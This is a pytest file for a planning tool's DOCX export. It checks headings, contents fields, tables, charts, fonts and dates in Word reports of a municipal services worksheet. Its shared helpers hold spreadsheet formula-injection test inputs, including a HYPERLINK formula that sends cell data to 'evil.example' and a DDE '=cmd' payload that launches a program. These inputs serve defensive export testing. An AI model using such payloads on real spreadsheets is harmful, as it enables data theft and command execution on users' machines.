"""The DOCX deliverable, read back with python-docx: the whole worksheet, every answer of the
plan, Word's heading styles, a contents field Word refreshes, lists as tables, the charts.

The helpers at the top (the demo documents, a document built by hand, the plan's answers as
lines) are shared with test_xlsx.py and test_csv.py.
"""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from collections.abc import Mapping
from io import StringIO
from pathlib import Path
from typing import Any

import docx
import pytest
from django.core.management import call_command
from docx.oxml.ns import qn
from docx.oxml.parser import parse_xml
from docx.table import Table

from jalon.plans.demo import demo_plan
from jalon.reports import charts, to_docx
from jalon.reports.document import Document, Meta, build_document, long_date
from jalon.reports.selectors import plan_document
from jalon.worksheets.loading import latest_definition
from jalon.worksheets.schema import ItemKind

from ..fidelity import missing_texts

WORKSHEET = "gerer-les-services-urbains"


# Shared helpers.


def demo_documents() -> dict[str, Document]:
    """The demo plan as a document, in French and in English."""
    call_command("load_demo", stdout=StringIO())
    plan = demo_plan()
    assert plan is not None
    return {language: plan_document(plan, language) for language in ("fr", "en")}


def missing_seed_items(text: str) -> list[str]:
    """The seed worksheet's items (steps, instructions, questions, options) not in `text`."""
    return missing_texts(text)


def hand_document(
    answers: Mapping[str, Any] | None = None,
    records: Mapping[str, Any] | None = None,
    language: str = "fr",
) -> Document:
    """A document of the bundled worksheet built from plain data, without a database."""
    definition = latest_definition(WORKSHEET)
    meta = Meta(
        municipality="Commune de Test",
        country="Sénégal",
        city="Test",
        service="Déchets solides",
        title="Plan de test",
        definition_id=definition.id,
        definition_version=definition.version,
        definition_hash=definition.hash,
        worksheet_title=definition.title.get(language),
        worksheet_source=definition.source.get(language),
        language=language,
        generated=datetime.date(2027, 1, 15),
    )
    return build_document(definition, answers or {}, records or {}, meta)


# Typed by a person, read by a spreadsheet: each would be a formula without the guard.
FORMULAS = {
    "excluded_groups_text": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "informal_operators_text": "+1+1",
    "funding_programmes_text": "-2+3",
    "informal_place": "@SUM(A1:A9)",
    "competences": "\t=1+1",
    "scale_up": "\r=1+1",
}
HOSTILE_RECORDS = {
    "indicators": [
        (
            "i1",
            {
                "name": "=cmd|' /C calc'!A0",
                "unit": "%",
                "baseline_value": "-5",
                "baseline_date": "2026-06-30",
                "target_value": "9.5",
                "target_date": "2027-12-31",
            },
        )
    ],
    "funding_programmes": [
        ("f1", {"name": "@Programme", "amount": {"amount": "25000000", "currency": "XOF"}})
    ],
}


def answer_lines(document: Document, *, typed_cells: bool = True) -> list[str]:
    """Every line of every answer, note, chosen option and record cell of `document`.
    `typed_cells=False` leaves out the cells spreadsheets keep as numbers or dates."""
    lines: list[str] = []
    for step in document.steps:
        for section in step.sections:
            for entry in section.entries:
                if entry.kind is ItemKind.TEXT:
                    lines += entry.text.splitlines()
                lines += entry.note.splitlines()
                lines += [choice.label for choice in entry.choices if choice.selected]
                for record in entry.records:
                    values = record.values or (None,) * len(record.cells)
                    for cell, value in zip(record.cells, values, strict=True):
                        if typed_cells or value is None:
                            lines += cell.splitlines()
    return [line.strip() for line in lines if line.strip()]


def worksheet_lines(document: Document) -> list[str]:
    """Every step title, section title and instruction, question and option of `document`."""
    lines: list[str] = []
    for step in document.steps:
        lines.append(step.title)
        for section in step.sections:
            lines += [section.title, *section.instruction.splitlines()]
            for entry in section.entries:
                lines += [entry.question, *entry.columns]
                lines += [choice.label for choice in (*entry.choices, *entry.levels)]
    return [line.strip() for line in lines if line.strip()]


def not_found(lines: list[str], text: str) -> list[str]:
    return [line for line in lines if line not in text]


# DOCX helpers.


def printed_answer_lines(document: Document) -> list[str]:
    """`answer_lines` as the DOCX prints them: dates written out (« 1er mars 2027 »)."""
    dates = [
        long_date(value, document.meta.language)
        for step in document.steps
        for section in step.sections
        for entry in section.entries
        for record in entry.records
        for value in record.values
        if isinstance(value, datetime.date)
    ]
    iso = re.compile(r"\d{4}-\d{2}-\d{2}")
    return [line for line in answer_lines(document) if not iso.fullmatch(line)] + dates


def docx_text(data: bytes) -> str:
    """The text of the document's body, paragraphs and table cells, in order."""
    document = docx.Document(io.BytesIO(data))
    lines: list[str] = []
    for block in document.iter_inner_content():
        if isinstance(block, Table):
            lines += [cell.text for row in block.rows for cell in row.cells]
        else:
            lines.append(block.text)
    return "\n".join(lines)


def paragraphs_in(data: bytes, style: str) -> list[str]:
    document = docx.Document(io.BytesIO(data))
    return [p.text for p in document.paragraphs if p.style is not None and p.style.name == style]


# Tests.


@pytest.fixture
def demo(db) -> dict[str, Document]:
    return demo_documents()


def test_docx_holds_every_seed_item_and_every_answer_of_the_demo_in_french(demo):
    text = docx_text(to_docx.build(demo["fr"]))
    assert missing_seed_items(text) == []
    assert not_found(printed_answer_lines(demo["fr"]), text) == []
    assert "Commune de Kandia" in text


def test_docx_in_english_holds_every_question_option_and_answer_in_english(demo):
    text = docx_text(to_docx.build(demo["en"]))
    assert not_found(worksheet_lines(demo["en"]), text) == []
    assert not_found(printed_answer_lines(demo["en"]), text) == []
    assert "What is the level of IT equipment of the urban service operators?" in text
    assert "Quel est le niveau d’équipement" not in text
    assert "Step 1: " in text


def test_docx_steps_sections_questions_and_records_are_word_headings(demo):
    data = to_docx.build(demo["fr"])
    # The summary after the cover, the six steps, the colophon at the end.
    summary, *steps, colophon = paragraphs_in(data, "Heading 1")
    assert (summary, colophon) == ("Synthèse", "Contributeurs et références")
    assert (
        steps[0] == "Étape 1\u00a0: Expliciter ses attentes du numérique pour chaque service urbain"
    )
    assert len(steps) == 6
    sections = [s for step in demo["fr"].steps for s in step.sections]
    assert paragraphs_in(data, "Heading 2") == [
        *(f"{s.id} {s.title}" for s in sections),
        "Contributeurs",
        "Références techniques",
    ]
    questions = [e.question for s in sections for e in s.entries]
    # The summary's parts are headings too, before the questions.
    parts = ["Actions test (3)", "Budget par source de financement", "Indicateurs clés (6)"]
    assert paragraphs_in(data, "Heading 3") == [*parts, "Reste à faire", *questions]
    # The pilot actions (a wide list) are each a heading: the navigation pane lists them.
    assert "1. Suivi GPS des tournées des camions de collecte" in paragraphs_in(data, "Heading 4")


def _bookmarked_paragraphs(document: Any) -> dict[str, str]:
    """Bookmark name → the text of the paragraph it is in."""
    found: dict[str, str] = {}
    for paragraph in document.element.body.iter(qn("w:p")):
        for bookmark in paragraph.iter(qn("w:bookmarkStart")):
            text = "".join(t.text or "" for t in paragraph.iter(qn("w:t")))
            found[bookmark.get(qn("w:name"))] = text
    return found


def _entries(document: Any, styles: tuple[str, ...]) -> list[tuple[str, str, list[str]]]:
    """The contents' entries: (text before the page number, linked bookmark, field codes)."""
    entries = []
    for paragraph in document.paragraphs:
        if paragraph.style is None or paragraph.style.name not in styles:
            continue
        links = list(paragraph._p.iter(qn("w:hyperlink")))
        if not links:
            continue
        anchor = links[0].get(qn("w:anchor"))
        text = "".join(t.text or "" for t in links[0].iter(qn("w:t")))
        codes = [i.text.strip() for i in paragraph._p.iter(qn("w:instrText"))]
        entries.append((text, anchor, codes))
    return entries


@pytest.mark.parametrize("language", ["fr", "en"])
def test_docx_contents_link_every_step_and_section_to_a_page_number_field(demo, language):
    data = to_docx.build(demo[language])
    document = docx.Document(io.BytesIO(data))
    update = document.settings.element.find(qn("w:updateFields"))
    assert update is not None
    assert update.get(qn("w:val")) == "true"  # Word offers to compute them on opening
    bookmarks = _bookmarked_paragraphs(document)
    entries = _entries(document, ("toc 1", "toc 2"))
    sections = [s for step in demo[language].steps for s in step.sections]
    # The summary, the steps and their sections, the colophon.
    assert len(entries) == 1 + len(demo[language].steps) + len(sections) + 1
    headings = paragraphs_in(data, "Heading 1") + paragraphs_in(data, "Heading 2")
    for text, anchor, codes in entries:
        # The entry links to the heading it names, and its page number is that heading's page.
        assert bookmarks[anchor] == text
        assert text in headings
        assert codes == [f"PAGEREF {anchor} \\h"]
    assert f"{sections[3].id} {sections[3].title}" in [text for text, _, _ in entries]
    # How to bring the numbers up to date, in the document's language, in both programs.
    note = docx_text(data)
    update_word = "Mettre à jour les champs" if language == "fr" else "Update Field"
    update_libreoffice = "Tout actualiser" if language == "fr" else "Update All"
    for words in ("Word", "LibreOffice", "F9", update_word, update_libreoffice):
        assert words in note
    assert document.core_properties.title == demo[language].meta.title
    assert document.core_properties.language == ("fr-FR" if language == "fr" else "en-GB")


def test_docx_shows_every_option_ticked_or_not_and_every_maturity_level(demo):
    text = docx_text(to_docx.build(demo["fr"]))
    orientation = next(
        e for s in demo["fr"].steps[0].sections for e in s.entries if e.id == "orientation"
    )
    for choice in orientation.choices:
        assert f"{'☒' if choice.selected else '☐'}\t{choice.label}" in text
    assert text.count("☒\t") == sum(
        c.selected
        for step in demo["fr"].steps
        for s in step.sections
        for e in s.entries
        for c in e.choices
    )
    # Each maturity question: five levels and their rubrics, the chosen one ticked.
    assert text.count("4 — Avancé") == 7
    assert "Aucun équipement informatique" in text


def test_docx_prints_narrow_lists_as_one_table_and_wide_lists_as_a_table_per_record(demo):
    document = docx.Document(io.BytesIO(to_docx.build(demo["fr"])))
    tables = document.tables
    # Excluded groups (4 fields): one table, a header row and a row per group.
    groups = next(t for t in tables if t.rows[0].cells[0].text == "Groupe social ou quartier")
    assert len(groups.rows) == 1 + 3
    header = groups.rows[0]._tr.trPr
    assert header is not None and header.find(qn("w:tblHeader")) is not None  # on each page
    # Pilot actions (12 fields): a field/value table per action, its empty fields left out, its
    # title in the card's heading only.
    actions = [t for t in tables if t.rows[0].cells[0].text == "Famille d’action"]
    assert len(actions) == 3
    assert all(len(t.columns) == 2 for t in actions)
    entry = next(e for s in demo["fr"].steps[3].sections for e in s.entries)
    first = entry.records[0]
    filled = [c for n, c in enumerate(first.cells) if c.strip() and n != entry.title_column]
    assert len(filled) < len(entry.columns) - 1  # a data action leaves communication fields out
    assert [row.cells[1].text for row in actions[0].rows] == filled


def test_docx_charts_are_images_with_a_caption_a_text_alternative_and_their_data(demo):
    data = to_docx.build(demo["fr"])
    document = docx.Document(io.BytesIO(data))
    drawn = [chart for chart in charts.all_charts(demo["fr"]) if chart.svg]
    assert drawn
    assert len(document.inline_shapes) == len(drawn)
    descriptions = [shape._inline.docPr.get("descr") for shape in document.inline_shapes]
    assert descriptions == [chart.alt for chart in drawn]
    captions = paragraphs_in(data, "Caption")
    assert [c.split("\u00a0: ", 1)[1] for c in captions] == [
        chart.title for chart in charts.all_charts(demo["fr"])
    ]
    # The data of the maturity chart is a table: its first row is the chart table's header.
    header = charts.all_charts(demo["fr"])[0].table[0]
    assert any(tuple(c.text for c in t.rows[0].cells) == header for t in document.tables)


def test_docx_of_an_empty_plan_is_a_blank_worksheet(plan):
    document = plan_document(plan, "fr")
    data = to_docx.build(document)
    text = docx_text(data)
    assert missing_seed_items(text) == []
    assert "(sans réponse)" in text
    assert "(aucun enregistrement)" in text
    assert "☒" not in text
    for chart in charts.all_charts(document):
        assert chart.svg is None
        assert chart.message in text
    assert len(docx.Document(io.BytesIO(data)).inline_shapes) == 0


def test_docx_keeps_markup_as_text_and_drops_characters_xml_cannot_hold():
    answer = 'Budget <w:t>&amp; "total"</w:t> ]]> \x00\x07\x1b fin'
    document = hand_document({"competences": answer, "scale_up": "=1+1"})
    text = docx_text(to_docx.build(document))
    assert 'Budget <w:t>&amp; "total"</w:t> ]]>  fin' in text
    assert "=1+1" in text  # Word computes no formulas: the answer is printed as typed


def test_docx_in_english_has_english_words_and_page_numbers():
    data = to_docx.build(hand_document(language="en"))
    document = docx.Document(io.BytesIO(data))
    footer = document.sections[0].footer.paragraphs[0]
    instructions = [i.text.strip() for i in footer._p.iter(qn("w:instrText"))]
    assert instructions == ["PAGE", "NUMPAGES"]
    # Which state of the plan, then the page: « As of 15 January 2027 · revision 0 · Page 1 of 1 ».
    assert re.fullmatch(r"As of \d+ \w+ \d{4} · revision \d+ · Page 1 of 1", footer.text)
    assert "(no answer)" in docx_text(data)


def _part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(name).decode()


def _typst_colour(name: str) -> str:
    """A colour of the PDF's template, as Word writes it (« 0B5F8A »)."""
    source = (Path(to_docx.__file__).parent / "typst" / "theme.typ").read_text()
    found = re.search(rf'#let {name} = rgb\("#([0-9a-fA-F]{{6}})"\)', source)
    assert found is not None
    return found.group(1).upper()


def test_docx_has_the_pdfs_face_and_colours_not_words_default_theme():
    data = to_docx.build(hand_document())
    document = docx.Document(io.BytesIO(data))
    styles = _part(data, "word/styles.xml")
    defaults = document.styles.element.find(qn("w:docDefaults"))
    fonts = defaults.find(f"{qn('w:rPrDefault')}/{qn('w:rPr')}/{qn('w:rFonts')}")
    assert {fonts.get(qn(f"w:{a}")) for a in ("ascii", "hAnsi", "cs", "eastAsia")} == {"Noto Sans"}
    assert "Theme=" not in styles  # no face from the theme, which a reader may swap
    assert "themeColor" not in styles
    theme = _part(data, "word/theme/theme1.xml")
    assert re.findall(r'<a:latin typeface="([^"]*)"', theme) == ["Noto Sans", "Noto Sans"]
    accent = _typst_colour("accent")
    assert re.search(rf'<a:accent1>\s*<a:srgbClr val="{accent}"', theme)
    font_table = _part(data, "word/fontTable.xml")
    assert 'w:name="Noto Sans"' in font_table
    assert "Calibri" not in font_table
    for default in ("Calibri", "Cambria", "Aptos", "4F81BD", "365F91", "17365D"):
        assert default not in styles
        assert default not in theme
    headings = {name: document.styles[name].font.color.rgb for name in ("Heading 1", "Heading 2")}
    assert str(headings["Heading 1"]) == accent
    assert str(headings["Heading 2"]) == _typst_colour("ink")
    assert str(document.styles["Normal"].font.color.rgb) == _typst_colour("ink")
    assert str(document.styles["Instruction"].font.color.rgb) == _typst_colour("muted")


def test_docx_table_cells_have_room_around_their_text(demo):
    document = docx.Document(io.BytesIO(to_docx.build(demo["fr"])))
    assert len(document.tables) > 20
    for table in document.tables:
        margins = table._tbl.tblPr.find(qn("w:tblCellMar"))
        assert margins is not None
        widths = {side.tag.split("}")[1]: int(side.get(qn("w:w"))) for side in margins}
        assert widths["top"] >= 40 and widths["bottom"] >= 40
        assert widths["left"] >= 80 and widths["right"] >= 80


def _row_kept(row: Any) -> bool:
    """Whether every paragraph of the row keeps with the next (the row with the next row)."""
    paragraphs = list(row._tr.iter(qn("w:p")))
    return all(p.find(f"{qn('w:pPr')}/{qn('w:keepNext')}") is not None for p in paragraphs)


def _cannot_split(row: Any) -> bool:
    properties = row._tr.trPr
    return properties is not None and properties.find(qn("w:cantSplit")) is not None


def test_docx_keeps_each_record_whole_and_list_rows_unsplit(demo):
    document = docx.Document(io.BytesIO(to_docx.build(demo["fr"])))
    actions = [t for t in document.tables if t.rows[0].cells[0].text == "Famille d’action"]
    assert len(actions) == 3
    for table in actions:
        # No row breaks across pages, and the table stays on one page: every row but the last
        # keeps with the next, so Word and LibreOffice move the whole record overleaf.
        assert all(_cannot_split(row) for row in table.rows)
        assert [_row_kept(row) for row in table.rows] == [True] * (len(table.rows) - 1) + [False]
    groups = next(
        t for t in document.tables if t.rows[0].cells[0].text == "Groupe social ou quartier"
    )
    assert all(_cannot_split(row) for row in groups.rows)
    header = groups.rows[0]._tr.trPr
    assert header is not None and header.find(qn("w:tblHeader")) is not None
    assert _row_kept(groups.rows[0])  # the header row is never alone at the foot of a page
    assert not any(_row_kept(row) for row in groups.rows[1:])  # a long list may break


def test_docx_lets_a_record_taller_than_a_page_break_rather_than_cut_it():
    long_text = "Un texte très long sur la collecte. " * 300  # about 10,800 characters
    document = hand_document(
        records={
            "pilot_actions": [
                ("p1", {"title": "Action longue", "family": "data", "description": long_text}),
            ]
        }
    )
    data = docx.Document(io.BytesIO(to_docx.build(document)))
    table = next(
        t for t in data.tables if t.rows[-1].cells[-1].text.startswith("Un texte très long")
    )
    long_row = next(row for row in table.rows if row.cells[1].text.startswith("Un texte"))
    # A row that cannot split yet is taller than a page is cut off in Word and LibreOffice.
    assert not _cannot_split(long_row)
    assert not any(_row_kept(row) for row in table.rows)
    assert _cannot_split(table.rows[0])


@pytest.mark.parametrize(("language", "word"), [("fr", "Graphique"), ("en", "Chart")])
def test_docx_captions_and_the_list_of_charts_use_the_pdfs_word(demo, language, word):
    data = to_docx.build(demo[language])
    document = docx.Document(io.BytesIO(data))
    titles = [chart.title for chart in charts.all_charts(demo[language])]
    colon = "\u00a0: " if language == "fr" else ": "
    expected = [f"{word} {n}{colon}{title}" for n, title in enumerate(titles, start=1)]
    assert paragraphs_in(data, "Caption") == expected
    instructions = [i.text.strip() for i in document.element.body.iter(qn("w:instrText"))]
    assert instructions.count(f"SEQ {word} \\* ARABIC") == len(titles)
    listed = _entries(document, ("table of figures",))
    assert [text for text, _, _ in listed] == expected
    bookmarks = _bookmarked_paragraphs(document)
    assert [bookmarks[anchor] for _, anchor, _ in listed] == expected
    assert "Figure" not in docx_text(data)
    assert not any("Figure" in i for i in instructions)


@pytest.mark.parametrize("language", ["fr", "en"])
def test_docx_writes_dates_out_in_the_documents_language(demo, language):
    data = to_docx.build(demo[language])
    text = docx_text(data)
    assert re.findall(r"\d{4}-\d{2}-\d{2}", text) == []
    # The roadmap's first action starts on 1 March 2027 (« 1er » in French).
    assert ("1er mars 2027" if language == "fr" else "1 March 2027") in text


def test_docx_in_english_has_no_french_spacing_of_its_own():
    data = to_docx.build(hand_document(language="en"))
    document = docx.Document(io.BytesIO(data))
    text = docx_text(data) + "\n".join(
        p.text
        for story in (document.sections[0].header, document.sections[0].footer)
        for p in story.paragraphs
    )
    assert re.findall(r".{0,20}[\u00a0\u202f][:;?!»].{0,5}", text) == []
    assert " ; " not in text
    assert "«" not in text
    assert "Step 1: " in text


# Element order inside these properties, as the WordprocessingML schema gives it (ECMA-376
# Part 1, §17): Word asks to repair a file whose order differs. Only the children Jalon writes.
SCHEMA_ORDER = {
    "pPr": ("pStyle", "keepNext", "keepLines", "pageBreakBefore", "tabs", "spacing", "ind", "jc"),
    "rPr": (
        "rStyle",
        "rFonts",
        "b",
        "bCs",
        "i",
        "iCs",
        "color",
        "spacing",
        "kern",
        "sz",
        "szCs",
        "lang",
    ),
    "tblPr": ("tblStyle", "tblW", "jc", "tblLayout", "tblCellMar", "tblLook", "tblCaption"),
    "tcPr": ("tcW", "shd"),
}


@pytest.mark.parametrize("language", ["fr", "en"])
def test_docx_properties_follow_the_schemas_order(demo, language):
    data = to_docx.build(demo[language])
    for part in ("word/document.xml", "word/styles.xml"):
        root = parse_xml(_part(data, part).encode())
        for parent, order in SCHEMA_ORDER.items():
            for properties in root.iter(qn(f"w:{parent}")):
                names = [child.tag.split("}")[1] for child in properties]
                known = [name for name in names if name in order]
                assert known == sorted(known, key=order.index), (part, parent, names)
